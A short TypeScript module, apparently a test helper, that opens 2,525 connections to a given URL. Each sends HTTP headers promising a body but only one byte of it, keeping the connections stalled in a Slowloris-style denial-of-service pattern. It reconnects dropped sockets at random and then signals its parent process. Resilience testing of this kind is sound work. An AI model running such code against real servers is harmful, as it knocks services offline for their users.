import { connect } from 'node:net';

/** Requests that one caller starts and never ends. */
export type Attack = { url: string; method: string; path: string; cookie?: string };

const connections = 2525;
/** A closed connection is opened again within this time, at random: all at once would measure how a burst is accepted. */
const againMs = 10_000;
const localAddress = '127.0.0.2';

function start({ url, method, path, cookie }: Attack): void {
  const { hostname, port, host } = new URL(url);
  const head = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${host}`,
    ...(cookie ? [`Cookie: ${cookie}`] : []),
    'Content-Type: application/json',
    'X-Requested-With: XMLHttpRequest',
    'Content-Length: 1000',
  ];
  const open = (): void => {
    const socket = connect({
      host: hostname === 'localhost' ? '127.0.0.1' : hostname,
      port: Number(port),
      localAddress,
    });
    socket.once('connect', () => socket.write(`${head.join('\r\n')}\r\n\r\n{`));
    socket.on('error', () => undefined).resume();
    socket.once('close', () => setTimeout(open, againMs * Math.random()));
  };
  for (let count = 0; count < connections; count += 1) open();
  // By then every connection is open, or has been refused once.
  setTimeout(() => process.send?.('open'), 2000);
}

process.once('message', (attack) => start(attack as Attack));
